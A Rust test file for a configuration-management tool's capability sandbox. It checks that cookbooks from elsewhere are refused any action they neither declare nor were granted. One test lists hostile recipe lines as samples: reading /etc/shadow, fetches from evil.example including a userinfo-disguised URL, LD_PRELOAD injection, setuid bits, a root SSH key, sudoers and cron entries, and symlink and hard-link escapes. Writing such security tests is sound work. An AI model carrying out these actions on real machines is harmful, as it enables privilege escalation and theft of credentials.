//! A cookbook from elsewhere does what it declares and what the project grants, and nothing else.

use std::fs;
use std::os::unix::fs::symlink;

use super::ground::Ground;

/// A manifest that declares files of the project below `web/`.
fn manifest(name: &str, version: &str, rest: &str) -> String {
    format!("name = \"{name}\"\nversion = \"{version}\"\n{rest}\n")
}

const WEB: &str = "web = { git = \"[OPS]\", subdirectory = \"web\" }";
const FILES: &str = "[capabilities]\nfile = [\"[DIR]/web/**\"]";

/// A project with the cookbook `web`, whose recipe is this, with these capabilities and grants.
fn with_recipe(recipe: &str, capabilities: &str, grants: &str) -> Option<Ground> {
    let ground = Ground::new()?;
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.0", capabilities));
    ground.pushed("web/recipes/default.lua", recipe).push(&["web-v1.0.0"]);
    ground.file("chefrs.toml", &format!("[cookbooks]\n{WEB}\n{grants}\n"));
    ground.file("recipes/site.lua", "include_recipe \"web\"\n");
    ground.done(&["fetch"]);
    Some(ground)
}

/// A run of the recipe that must be refused, and say these things; nothing is changed.
fn refused(recipe: &str, capabilities: &str, grants: &str, says: &[&str]) {
    let Some(ground) = with_recipe(recipe, capabilities, grants) else { return };
    let first = "file \"[DIR]/first\" { content = \"x\" }\ninclude_recipe \"web\"\n";
    ground.file("recipes/site.lua", first);
    ground.fails(&["run", "-r", "site"], 3, says);
    assert!(!ground.project().join("first").exists(), "something was changed before the refusal");
}

#[test]
fn what_is_declared_and_granted_is_done() {
    let recipe = "directory \"[DIR]/web\" {}\nfile \"[DIR]/web/index\" { content = \"hello\" }\n";
    let Some(ground) = with_recipe(recipe, FILES, "[grants.web]\nfile = [\"[DIR]/web/**\"]") else { return };
    // Reports say who asked for a change.
    let said = ground.done(&["run", "-r", "site"]);
    assert!(said.contains("file[[DIR]/web/index] (cookbook web) create: create file"), "{said}");
    let said = ground.done(&["run", "-r", "site", "--format", "json"]);
    assert!(said.contains("\"cookbook\":\"web\",\"asked_by\":\"web\""), "{said}");
    assert_eq!(ground.text("web/index"), "hello");
    assert!(ground.text("chefrs.lock").contains("\ncapabilities = \"sha256:"));
}

#[test]
fn without_a_grant_nothing_is_done_and_the_message_says_what_to_write() {
    let recipe = "directory \"[DIR]/web\" {}\n";
    refused(
        recipe,
        FILES,
        "",
        &[
            "directory[[DIR]/web]: the cookbook `web` may not: it was not granted file `[DIR]/web`",
            "write it below `[grants.web]` in chefrs.toml: `file = [\"[DIR]/web\"]`",
        ],
    );
    refused(
        recipe,
        "",
        "[grants.web]\nfile = [\"[DIR]/**\"]",
        &["the cookbook `web` does not declare that it needs file `[DIR]/web`"],
    );
    refused(
        recipe,
        FILES,
        "[grants.web]\nfile = [\"[DIR]/**\"]\n[deny]\nfile = [\"[DIR]/we*\"]",
        &["the cookbook `web` may not: the project denies file `[DIR]/web`"],
    );
}

/// Every door that a hostile recipe may try, with what it must be told.
#[test]
fn a_hostile_recipe_is_stopped_at_every_door() {
    let grants = "[grants.web]\nfile = [\"[DIR]/web/**\"]\npackage = [\"nginx\"]\nexecute = [\"/usr/sbin/nginx -t\"]\n\
                  fetch = [\"https://nginx.org/**\"]";
    let all = "[capabilities]\nfile = [\"/**\"]\nread = [\"/**\"]\nexecute = [\"**\"]\npackage = [\"**\"]\n\
               service = [\"**\"]\nuser = [\"**\"]\nfetch = [\"**\"]\nsecret = [\"**\"]\nsystem = [\"**\"]\n";
    let doors: &[(&str, &str)] = &[
        ("file \"[DIR]/web/../other\" {}", "without `..`"),
        ("file \"/etc/x\" {}", "file `/etc/x`"),
        ("sudo \"web\" { users = { \"web\" } }", "file `/etc/sudoers.d/web`"),
        ("cron \"web\" { command = \"x\" }", "file `/etc/cron.d/web`"),
        ("systemd_unit \"web.service\" { content = \"[Service]\\nExecStart=/bin/true\\n\" }", "web.service"),
        ("service \"ssh\" {}", "service `ssh`"),
        ("package \"nginx\" { options = { \"-o=x\" } }", "package `option:-o=x`"),
        ("package \"nginx\" { source = \"/tmp/x.deb\" }", "package `/tmp/x.deb`"),
        ("package { \"nginx\", \"curl\" }", "package `curl`"),
        ("user \"root\" { comment = \"x\" }", "user `root`"),
        ("user \"web\" { groups = { \"sudo\" } }", "user `sudo`"),
        ("execute \"x\" { command = { \"/usr/sbin/nginx\" } }", "execute `/usr/sbin/nginx`"),
        (
            "execute \"x\" { command = { \"nginx\", \"-t\" }, environment = { LD_PRELOAD = \"/x\" } }",
            "execute `**`",
        ),
        ("file \"[DIR]/web/a\" { verify = \"touch /x\" }", "execute `/bin/sh -c 'touch /x'`"),
        ("file \"[DIR]/web/a\" { only_if = { \"/bin/rm\", \"x\" } }", "execute `/bin/rm x`"),
        ("file \"[DIR]/web/a\" { not_if = { \"cat\", output { \"id\" } } }", "execute `id`"),
        ("file \"[DIR]/web/a\" { content = contents \"/etc/shadow\" }", "read `/etc/shadow`"),
        ("file \"[DIR]/web/a\" { content = secret \"root_password\" }", "secret `root_password`"),
        ("file \"[DIR]/web/a\" { mode = \"4755\" }", "system `setuid`"),
        ("link \"[DIR]/web/a\" { to = \"/etc/shadow\", link_type = \"hard\" }", "file `/etc/shadow`"),
        ("mount \"[DIR]/web\" { device = \"/etc\", options = \"bind\" }", "system `mount[DIR]/web`"),
        (
            "remote_file \"[DIR]/web/a\" { source = \"https://nginx.org@evil.example/x\" }",
            "fetch `https://evil.example/x`",
        ),
        ("remote_file \"[DIR]/web/a\" { source = \"file:///etc/shadow\" }", "read `/etc/shadow/**`"),
        ("git \"[DIR]/web/a\" { repository = \"https://evil.example/x\" }", "fetch `https://evil.example/x`"),
        (
            "authorized_key \"root\" { key = \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJrs0xXYpYbXMJjvTjJUqKJ0bLhXk3Zy7Yd0fQm1Qp2R\" }",
            "system `login/root`",
        ),
        ("fragment \"x\" { into = \"/etc/app.conf\", content = \"x\" }", "file `/etc/app.conf`"),
        ("script \"x\" { code = \"id\" }", "execute `bash`"),
    ];
    let Some(ground) = with_recipe("", all, grants) else { return };
    let mut open = Vec::new();
    for (door, says) in doors {
        ground.pushed("web/recipes/default.lua", door).push(&["web-v1.0.0"]);
        ground.done(&["update", "--precise", "1.0.0", "web", "--grant"]);
        ground.file("chefrs.toml", &format!("[cookbooks]\n{WEB}\n{grants}\n"));
        let (status, text) = ground.call(&["run", "-r", "site"]);
        if status != 3 || !text.contains(says) || !(text.contains("cookbook `web`") || says.contains("..")) {
            open.push(format!("{door}: {status}: {text}"));
        }
    }
    assert_eq!(open, Vec::<String>::new());
}

#[test]
fn a_link_does_not_widen_a_grant() {
    let recipe = "file \"[DIR]/web/out/x\" { content = \"x\" }\n";
    let Some(ground) = with_recipe(recipe, FILES, "[grants.web]\nfile = [\"[DIR]/web/**\"]") else { return };
    fs::create_dir_all(ground.project().join("web")).unwrap();
    fs::create_dir_all(ground.project().join("elsewhere")).unwrap();
    symlink(ground.project().join("elsewhere"), ground.project().join("web/out")).unwrap();
    let says = [
        "the cookbook `web` does not declare that it needs file `[DIR]/elsewhere/x`",
        "links of the machine",
    ];
    ground.fails(&["run", "-r", "site"], 1, &says);
    ground.fails(&["plan", "-r", "site"], 1, &says);
    assert!(!ground.project().join("elsewhere/x").exists());
    // A link that the cookbook makes itself, in the same run.
    fs::remove_file(ground.project().join("web/out")).unwrap();
    let both = format!("link \"[DIR]/web/out\" {{ to = \"[DIR]/elsewhere\" }}\n{recipe}");
    ground.pushed("web/recipes/default.lua", &both).push(&["web-v1.0.1"]);
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.1", FILES)).push(&["web-v1.0.1"]);
    ground.done(&["update"]);
    ground.fails(&["run", "-r", "site"], 1, &says);
    assert!(!ground.project().join("elsewhere/x").exists());
    assert!(!ground.project().join("web/out").exists(), "the run is refused before its first change");
    // A link within the grant leads nowhere else.
    fs::create_dir_all(ground.project().join("web/in")).unwrap();
    symlink("in", ground.project().join("web/out")).unwrap();
    ground.pushed("web/recipes/default.lua", recipe);
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.2", FILES)).push(&["web-v1.0.2"]);
    ground.done(&["update"]);
    ground.done(&["run", "-r", "site"]);
    assert_eq!(ground.text("web/in/x"), "x");
}

#[test]
fn others_lend_it_no_rights() {
    let Some(ground) = Ground::new() else { return };
    // A cookbook of the project, which may do everything, with a resource that does what it is told.
    ground.file("cookbooks/tool/cookbook.toml", &manifest("tool", "1.0.0", ""));
    ground.file(
        "cookbooks/tool/resources/run.lua",
        "return resource { properties = { path = property.path { required = true } },\n\
         actions = { create = function(self) file(self.path) { content = \"x\" } end } }\n",
    );
    ground.file("cookbooks/tool/recipes/default.lua", "file \"[DIR]/tool\" { content = \"x\" }\n");
    ground.file("cookbooks/tool/files/private", "x");
    ground.pushed(
        "web/cookbook.toml",
        &manifest("web", "1.0.0", &format!("[dependencies]\ntool = \"*\"\n{FILES}")),
    );
    let tries: &[(&str, &str)] = &[
        (
            "require(\"@tool\").run \"x\" { path = \"[DIR]/out\" }",
            "tool_run[x] → file[[DIR]/out]: the cookbook `web`",
        ),
        ("include_recipe \"tool\"", "file[[DIR]/tool]: the cookbook `web` does not declare that it needs"),
        (
            "cookbook_file \"[DIR]/web/x\" { source = \"private\", cookbook = \"tool\" }",
            "the cookbook `web` can't use the files of the cookbook `tool`",
        ),
        (
            "file \"[DIR]/web/x\" { notifies = { \"delete\", \"file[[DIR]/mine]\", \"immediately\" } }",
            "`notifies` runs file[[DIR]/mine] of the project: the cookbook `web` does not declare",
        ),
    ];
    ground.pushed("web/recipes/default.lua", "").push(&["web-v1.0.0"]);
    let settings = format!("[cookbooks]\n{WEB}\n[grants.web]\nfile = [\"[DIR]/web/**\"]\n");
    ground.file("chefrs.toml", &settings).done(&["fetch"]);
    ground.file("recipes/site.lua", "file \"[DIR]/mine\" { content = \"x\" }\ninclude_recipe \"web\"\n");
    for (index, (recipe, says)) in tries.iter().enumerate() {
        let version = format!("1.0.{}", index + 1);
        ground.pushed("web/recipes/default.lua", recipe);
        let rest = format!("[dependencies]\ntool = \"*\"\n{FILES}");
        ground
            .pushed("web/cookbook.toml", &manifest("web", &version, &rest))
            .push(&[&format!("web-v{version}")]);
        ground.done(&["update"]);
        ground.fails(&["run", "-r", "site"], 3, &[says]);
        assert!(!ground.project().join("mine").exists() && !ground.project().join("out").exists());
    }
}

#[test]
fn what_the_project_hands_over_may_be_used() {
    let Some(ground) = Ground::new() else { return };
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.0", FILES));
    ground.pushed(
        "web/resources/page.lua",
        "return resource { properties = { text = property.text { required = true } },\n\
         actions = { create = function(self) file(`[DIR]/web/{self.name}`) { content = self.text } end } }\n",
    );
    ground.push(&["web-v1.0.0"]);
    ground.file("chefrs.toml", &format!("[cookbooks]\n{WEB}\n[grants.web]\nfile = [\"[DIR]/web/**\"]\n"));
    ground.file(
        "recipes/site.lua",
        "directory \"[DIR]/web\" {}\nrequire(\"@web\").page \"x\" { text = contents \"[DIR]/mine\" }\n",
    );
    ground.file("mine", "handed over");
    ground.done(&["fetch"]);
    ground.done(&["run", "-r", "site"]);
    assert_eq!(ground.text("web/x"), "handed over");
}

#[test]
fn a_probe_and_an_attribute_of_another_cookbook_are_rights_too() {
    let Some(ground) =
        with_recipe("file \"[DIR]/web/x\" {}", FILES, "[grants.web]\nfile = [\"[DIR]/web/**\"]")
    else {
        return;
    };
    ground.pushed("web/facts.lua", "return probes { shadow = probe.file { path = \"/etc/shadow\" } }\n");
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.1", FILES)).push(&["web-v1.0.1"]);
    ground.done(&["update"]);
    ground.fails(
        &["run", "-r", "site"],
        3,
        &["the cookbook `web` does not declare that it needs read `/etc/shadow`"],
    );
    ground.pushed("web/facts.lua", "return probes {}\n");
    let wraps =
        format!("{FILES}\n[dependencies]\nnginx = \"*\"\n[attributes.nginx]\nworker_processes = \"1\"\n");
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.2", &wraps)).push(&["web-v1.0.2"]);
    ground.done(&["update"]);
    ground.fails(&["run", "-r", "site"], 3, &["attribute `nginx.worker_processes`"]);
}

#[test]
fn add_shows_the_request_and_grants_what_it_is_told_to() {
    let Some(ground) = Ground::new() else { return };
    let needs = "[capabilities]\npackage = [\"nginx\"]\nfile = [\"/etc/nginx/**\", \"/etc/cron.d/web\"]\n\
                 execute = [\"/usr/sbin/nginx -t\"]\n[capabilities.optional]\nfile = [\"/etc/logrotate.d/web\"]";
    ground.pushed("web/cookbook.toml", &manifest("web", "1.0.0", needs)).push(&["web-v1.0.0"]);
    ground.file("chefrs.toml", "# Mine.\n\n[project] # Kept.\nname = \"x\"\n");
    let add = ["add", "web", "--git", "[OPS]", "--subdirectory", "web"];
    let text = ground.done(&add);
    for part in [
        "the cookbook `web` 1.0.0 asks for:\n",
        "  install, change and remove the packages (package)\n      nginx\n",
        "      /etc/nginx/**\n",
        "  !   /etc/cron.d/web   full control: cron\n",
        "can do without, and asks for:\n",
        "2 lines amount to full control of the machine",
        "`web` was not granted 4 rights that it needs",
        "call `chefrs grants web --grant-all`",
    ] {
        assert!(text.contains(part), "{part:?} is not in {text}");
    }
    assert!(!ground.text("chefrs.toml").contains("[grants"));
    ground.fails(&["grants"], 1, &["may not, because it was not granted"]);
    ground.done(&["remove", "web"]);
    ground.done(&[&add[..], &["--grant"]].concat());
    let settings = ground.text("chefrs.toml");
    assert!(settings.starts_with("# Mine.\n\n[project] # Kept.\nname = \"x\"\n"), "{settings}");
    let granted = "[grants.web]\npackage = [\"nginx\"]\nfile = [\"/etc/nginx/**\"]\nexecute = [\"/usr/sbin/nginx -t\"]\n";
    assert!(settings.ends_with(granted), "{settings}");
    ground.fails(&["grants", "--diff"], 1, &["+ web: file `/etc/cron.d/web` (not granted)"]);
    ground.fails(&["grants", "--grant-all"], 64, &["`--grant-all` is for one cookbook"]);
    ground.done(&["grants", "web", "--grant-all"]);
    ground.done(&["grants"]);
    ground.done(&["remove", "web"]);
    assert!(!ground.text("chefrs.toml").contains("grants.web"));
    ground.done(&[&add[..], &["--grant-all"]].concat());
    assert!(ground.text("chefrs.toml").contains("\"/etc/cron.d/web\""));
}

#[test]
fn an_update_that_asks_for_more_stops_without_a_terminal() {
    let grants = "[grants.web]\nfile = [\"[DIR]/web/**\"]";
    let Some(ground) = with_recipe("file \"[DIR]/web/x\" {}", FILES, grants) else { return };
    let (lock, settings) = (ground.text("chefrs.lock"), ground.text("chefrs.toml"));
    let more = format!("{FILES}\nservice = [\"ssh\"]\nuser = [\"root\"]");
    ground.pushed("web/cookbook.toml", &manifest("web", "1.1.0", &more)).push(&["web-v1.1.0"]);
    let says = [
        "the cookbook `web` 1.1.0 asks for:",
        "      ssh\n",
        "  !   root   full control: the account of an administrator",
        "the new versions need rights that they were not granted, so nothing is written",
        "call `chefrs update web --grant-all`",
    ];
    ground.fails(&["update"], 1, &says);
    ground.fails(&["update", "--grant"], 1, &says);
    let (_, text) = ground.call(&["update"]);
    assert!(!text.contains("[DIR]/web/**"), "what was granted before is not a difference: {text}");
    assert_eq!((ground.text("chefrs.lock"), ground.text("chefrs.toml")), (lock, settings));
    ground.done(&["update", "web", "--grant-all"]);
    assert!(ground.text("chefrs.toml").contains("user = [\"root\"]"));
    assert!(ground.text("chefrs.lock").contains("1.1.0"));
}

#[test]
fn a_lock_that_says_other_capabilities_is_refused() {
    let grants = "[grants.web]\nfile = [\"[DIR]/web/**\"]";
    let Some(ground) = with_recipe("file \"[DIR]/web/x\" {}", FILES, grants) else { return };
    let lock = ground.text("chefrs.lock");
    let (before, rest) = lock.split_once("capabilities = \"sha256:").unwrap();
    let changed = format!("{before}capabilities = \"sha256:{}{}", "0".repeat(64), &rest[64..]);
    ground.file("chefrs.lock", &changed);
    ground.fails(
        &["run", "-r", "site"],
        3,
        &["the cookbook `web` declares to need something else than chefrs.lock says"],
    );
    ground.file("chefrs.lock", &format!("{before}{}", &rest[66..]));
    ground.fails(&["run", "-r", "site"], 3, &["chefrs.lock does not say what the cookbook `web` declares"]);
    ground.done(&["fetch"]);
    assert_eq!(ground.text("chefrs.lock"), lock);
}

#[test]
fn tables_that_are_no_rights_are_refused_with_their_lines() {
    let Some(ground) = Ground::new() else { return };
    let wrong: &[(&str, &str)] = &[
        ("[grants.web]\nfiles = []", "did you mean `file`?"),
        ("[grants.web]\nfile = [\"etc\"]", "a path begins with `/`"),
        ("[grants.web]\nfile = [\"/a/../b\"]", "a path has no `.`, no `..`"),
        ("[grants.web]\nfile = [\"/a**\"]", "`**` must be a whole part"),
        ("[grants.web]\nexecute = [\"nginx\"]", "a program is named with its path"),
        ("[grants.web]\nfetch = [\"nginx.org\"]", "an address has a scheme"),
        ("[grants]\nweb = 1", "`grants.web` must be a table"),
        ("[deny]\nfile = \"/etc\"", "`deny.file` must be a list"),
        ("[grants.wep]\nfile = []", "grants for `wep`, but there is no such cookbook"),
    ];
    ground.file("base/cookbook.toml", &manifest("web", "1.0.0", ""));
    for (text, says) in wrong {
        ground.file("chefrs.toml", &format!("[cookbooks]\nweb = {{ path = \"base\" }}\n{text}\n"));
        ground.file("recipes/site.lua", "file \"[DIR]/x\" {}\n");
        ground.fails(&["compile", "-r", "site"], 3, &[says, "chefrs.toml:"]);
    }
}

#[test]
fn a_task_runs_what_was_granted_and_nothing_else() {
    for (grants, status, says) in [
        ("[grants.web]\nexecute = [\"/bin/echo hello\"]", 0, "hello\n"),
        ("[grants.web]\nexecute = [\"/bin/echo bye\"]", 1, "it was not granted execute `/bin/echo hello`"),
        ("", 1, "the cookbook `web` may not: it was not granted execute `/bin/echo hello`"),
    ] {
        let Some(ground) = Ground::new() else { return };
        ground.pushed(
            "web/cookbook.toml",
            &manifest("web", "1.0.0", "[capabilities]\nexecute = [\"/bin/echo *\"]"),
        );
        let task = "return task { run = function(self) execute \"it\" { command = { \"/bin/echo\", \"hello\" } } end }\n";
        ground.pushed("web/tasks/say.lua", task).push(&["web-v1.0.0"]);
        ground.file("chefrs.toml", &format!("[cookbooks]\n{WEB}\n{grants}\n"));
        ground.done(&["fetch"]);
        let (found, said) = ground.call(&["do", "web", "say"]);
        assert_eq!(found, status, "{said}");
        assert!(said.contains(says), "{said}");
    }
}
